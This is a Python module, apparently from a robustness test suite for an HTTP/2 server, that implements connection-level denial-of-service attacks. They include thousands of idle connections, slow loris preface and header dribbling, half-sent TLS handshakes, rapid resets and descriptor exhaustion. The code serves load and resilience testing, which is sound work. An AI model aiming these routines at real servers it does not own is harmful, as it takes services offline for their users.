"""Attacks with connections: many, silent ones, slow ones, and ones that want TLS."""

import contextlib
import resource
import socket
import time

from .wire import END_HEADERS, HEADERS, PREFACE, RESET_ON_CLOSE, SETTINGS, client_hello, connect, frame, request


def hold(address: str, count: int, seconds: float, first: bytes, more: bytes = b"", pause: float = 0.5) -> str:
    """Holds connections that send `first`, then a byte of `more` now and then; those that the server ends are replaced."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 100)), hard))
    end, opened = time.monotonic() + seconds, 0
    peers: list[tuple[socket.socket, int]] = []
    while time.monotonic() < end:
        while len(peers) < count and opened < 2 * count and time.monotonic() < end:
            with contextlib.suppress(OSError):
                peer = connect(address)
                peer.sendall(first)
                peer.setblocking(False)
                peers.append((peer, 0))
            opened += 1
        alive = []
        for peer, sent in peers:
            try:
                with contextlib.suppress(BlockingIOError):
                    if not peer.recv(1 << 16):
                        raise ConnectionResetError
                if sent < len(more):
                    peer.send(more[sent:sent + 1])
                alive.append((peer, sent + 1))
            except OSError:
                peer.close()
        peers = alive
        time.sleep(pause)
    held = len(peers)
    for peer, _ in peers:
        peer.close()
    return f"{opened} connections, {held} of them open at the end"


def many_connections(address: str, seconds: float) -> str:
    """5,000 connections that are ready and do nothing."""
    return hold(address, 5000, seconds, PREFACE + frame(SETTINGS, 0, 0))


def silent_connections(address: str, seconds: float) -> str:
    """1,000 connections that never say a word."""
    return hold(address, 1000, seconds, b"")


def slow_preface(address: str, seconds: float) -> str:
    """Slow loris: 500 connections that send HTTP/2's preface byte by byte."""
    return hold(address, 500, seconds, b"", PREFACE + frame(SETTINGS, 0, 0), pause=0.3)


def slow_headers(address: str, seconds: float) -> str:
    """Slow loris: 500 connections that send the headers of a call byte by byte."""
    return hold(address, 500, seconds, PREFACE + frame(SETTINGS, 0, 0), frame(HEADERS, END_HEADERS, 1, request()), pause=0.2)


def tls_to_plaintext(address: str, seconds: float) -> str:
    """TLS handshakes, whole and broken off, at a port that has none."""
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        hello = client_hello()
        with contextlib.suppress(OSError), connect(address) as peer:
            peer.settimeout(0.2)
            peer.sendall(hello[:len(hello) // 2] if count % 2 else hello)
            if count % 3 == 0:
                peer.recv(1000)
        count += 1
    return f"{count} handshakes"


def connects_and_leaves(address: str, seconds: float) -> str:
    """Connections that are closed or reset as soon as they are made."""
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            peer = connect(address)
            if count % 2:
                peer.setsockopt(*RESET_ON_CLOSE)
            peer.close()
        count += 1
    return f"{count} connections"


def descriptors(address: str, seconds: float) -> str:
    """200 connections where the server may have 64 descriptors; see `measure`."""
    return hold(address, 200, seconds, PREFACE + frame(SETTINGS, 0, 0), pause=0.1)


ATTACKS = [
    many_connections, silent_connections, slow_preface, slow_headers, tls_to_plaintext, connects_and_leaves, descriptors]
